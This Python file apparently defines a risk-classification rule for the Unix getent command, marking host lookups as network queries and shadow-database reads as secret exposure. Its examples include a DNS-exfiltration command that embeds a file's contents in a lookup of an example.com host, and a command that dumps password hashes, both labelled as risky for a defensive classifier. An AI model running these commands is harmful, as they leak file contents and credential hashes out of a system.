from __future__ import annotations

from riskclass.model.tables import flags, takes, tool, when

TOOL = tool(
    "getent",
    "DATABASE KEY...",
    about="look up accounts, hosts and the like",
    input="none",
    docs="man:getent(1)",
    options=[takes("-s/--service"), flags("-A/--no-addrconfig -i/--no-idn -?/--help --usage -V/--version")],
    rows=[
        when("DATABASE=hosts|ahosts*|networks", "KEY", does="net.query KEY", because="asks the name servers"),
        when("DATABASE=shadow|gshadow", does="secret.read DATABASE", because="shows password hashes"),
    ],
    examples="""
        getent passwd bob      #=> read_only
        getent hosts web1      #=> read_only net.query
        getent hosts "$(cat f).example.com"  #=> exposure net.upload
        getent hosts           #=> read_only
        getent passwd "$(cat f)"             #=> read_only
        getent shadow          #=> exposure secret.read
        getent gshadow ops     #=> exposure
    """,
)
